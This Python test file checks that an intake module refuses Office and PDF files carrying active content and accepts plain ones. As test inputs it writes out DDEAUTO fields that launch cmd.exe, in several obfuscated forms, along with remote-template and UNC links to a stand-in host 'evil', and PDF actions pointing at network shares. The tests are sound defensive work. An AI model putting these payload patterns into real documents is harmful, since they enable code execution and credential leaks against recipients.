"""Word, Excel and PDF files that act when they are opened are refused, and ordinary ones taken."""

from pathlib import Path

import pytest
from openpyxl import Workbook

from reports import office_parts
from reports.evidence_content import examine
from tests.reports import proofs
from units.errors import FileRefused

RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
OLE = bytes.fromhex("d0cf11e0a1b11ae1") + b"\0" * 512
ACTS = "Tệp lấy nội dung từ nơi khác, hoặc chứa tệp hay chương trình khác: hãy in ra PDF rồi gửi."
DAMAGED = "Tệp bị hỏng"
LEADS_OUT = "Tệp PDF có mã lệnh hoặc tệp khác bên trong"


def refusal(folder: Path, content: bytes) -> str:
    with pytest.raises(FileRefused) as refused:
        examine(proofs.save(folder, content))
    return refused.value.message


def relations(kind: str, target: str, mode: str = "External", encoding: str = "utf-8") -> bytes:
    said = f'<Relationship Id="r1" Type="{RELATIONS}/{kind}" Target="{target}"'
    mode = f' TargetMode="{mode}"' if mode else ""
    head = f'<?xml version="1.0" encoding="{encoding}"?>'
    return f"{head}<Relationships>{said}{mode}/></Relationships>".encode(encoding)


def related(*said: str, encoding: str = "utf-8") -> bytes:
    return proofs.document(word___rels__settings_xml_rels=relations(*said, encoding=encoding))


def fields(xml: str, encoding: str = "utf-8") -> bytes:
    head = f'<?xml version="1.0" encoding="{encoding}"?>'
    return f'{head}<w:document xmlns:w="{WORD}">{xml}</w:document>'.encode(encoding)


def written(xml: str, encoding: str = "utf-8") -> bytes:
    return proofs.archive(word__document_xml=fields(xml, encoding))


def sign(kind: str) -> str:
    return f'<w:fldChar w:fldCharType="{kind}"/>'


def text(said: str) -> str:
    return f"<w:instrText>{said}</w:instrText>"


def field(*said: str) -> str:
    return f"{sign('begin')}{''.join(map(text, said))}{sign('separate')}{sign('end')}"


@pytest.mark.parametrize(
    "content",
    [
        related("attachedTemplate", "http://evil/t.dotm"),
        related("attachedTemplate", "http://evil/t.dotm", "&#69;xternal"),
        related("attachedTemplate", "http://evil/t.dotm", "External", encoding="utf-16"),
        related("attachedTemplate", "file://evil/t.dotm", ""),
        related("image", "&#92;&#92;evil&#92;share"),
        related("aFChunk", "page.mht", "Internal"),
        related("oleObject", "embeddings/a.dat", "Internal"),
        proofs.document(word__media__image1_dat=OLE),
        proofs.document(word__printer_bin=OLE),
        written(field("DDEAUTO c:\\cmd.exe")),
        written(field("D", "DEA", "UTO c:\\cmd.exe")),
        written(field(" dde<![CDATA[auto]]> x")),
        written(field("PAGE") + field("DDE", " excel")),
        written(field("DDEAUTO x"), "utf-16"),
        written('<w:fldSimple w:instr=" DDE&#65;UTO x"/>'),
        written(field('DDEAUTO"c:\\cmd.exe"')),
        written(field("QUOTE" + " " * 100, "68 68 69")),
        written(sign("begin") + field("REF name") + text(" x") + sign("end")),
        written(field("INCLUDEPICTURE \\\\evil\\share")),
        proofs.document(word__other_dat=fields(field("DDEAUTO x"), "utf-16")),
        proofs.archive(
            xl__workbook_xml=b"<x/>",
            xl___rels__workbook_xml_rels=relations("externalLink", "externalLinks/1.xml", ""),
        ),
    ],
    ids=[
        "template", "spelt", "other-encoding", "unsaid", "share", "page", "object", "ole-dat",
        "ole-bin", "dde", "dde-cut", "dde-cdata", "dde-second", "dde-encoding", "dde-simple",
        "dde-quoted",
        "dde-numbers", "dde-nested", "picture", "dde-elsewhere", "workbook",
    ],
)  # fmt: skip
def test_office_file_that_acts_is_refused(content: bytes, tmp_path: Path) -> None:
    assert refusal(tmp_path, content) == ACTS


@pytest.mark.parametrize(
    "content",
    [
        related("hyperlink", "https://quangninh.gov.vn"),
        related("styles", "styles.xml", ""),
        written(field("HYPERLINK https://dde.vn/link") + "DDEAUTO" + field("TOC", field("PAGE"))),
        written('<w:fldSimple w:instr="DATE"/>' + field(" IF ", "1 = 1")),
    ],
    ids=["hyperlink", "part", "fields", "simple"],
)
def test_office_file_that_only_says_something_is_taken(content: bytes, tmp_path: Path) -> None:
    assert examine(proofs.save(tmp_path, content)).whole == content


def test_workbook_as_programs_write_it_is_taken(tmp_path: Path) -> None:
    book, path = Workbook(), tmp_path / "a.xlsx"
    book.active["A1"] = "Số liệu"
    book.active["A1"].hyperlink = "https://quangninh.gov.vn"
    book.save(path)
    assert examine(path).whole == path.read_bytes()


@pytest.mark.parametrize(
    "content",
    [
        proofs.document() + b"MZ",
        proofs.document() + proofs.workbook(),
        proofs.document()[:-2] + b"\x02\0MZ",
        proofs.document(word__footer_xml=b"<w>"),
    ],
    ids=["tail", "two", "remark", "not-xml"],
)
def test_archive_that_holds_more_than_its_parts_is_refused(content: bytes, tmp_path: Path) -> None:
    assert refusal(tmp_path, content).startswith(DAMAGED)


def test_document_of_more_text_than_anybody_reads_is_refused(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(office_parts, "MOST_MARKUP", 100)
    assert refusal(tmp_path, written("dài" * 100)).startswith("Văn bản quá dài")


@pytest.mark.parametrize(
    "action",
    [
        b"/S /GoToR /F (a.pdf)",
        b"/S /GoToE /T << >>",
        rb"/S /URI /URI (\\\\evil\\share)",
        rb"/S /URI /URI (\\evil\share)",
        rb"/S /URI /URI (\134\134evil\134share)",
        b"/S /URI /URI ( file://evil/share)",
        b"/S /URI /U#52I (//evil/share)",
        b"/S /URI /URI <5C 5C 6576696C>",
        rb"/UF (\376\377\000\\\000\\\000e)",
        rb"/F (\\\\evil\\share\\a.pdf)",
    ],
)
def test_pdf_that_leads_to_another_computer_is_refused(action: bytes, tmp_path: Path) -> None:
    content = proofs.PDF.replace(b"/Type", action + b" /Type", 1)
    assert refusal(tmp_path, content).startswith(LEADS_OUT)


@pytest.mark.parametrize(
    "action", [b"/S /URI /URI (https://quangninh.gov.vn/a//b)", b"/S /GoTo /D [1 0 R /Fit]"]
)
def test_pdf_that_leads_to_a_page_is_taken(action: bytes, tmp_path: Path) -> None:
    content = proofs.PDF.replace(b"/Type", action + b" /Type", 1)
    assert examine(proofs.save(tmp_path, content)).whole == content
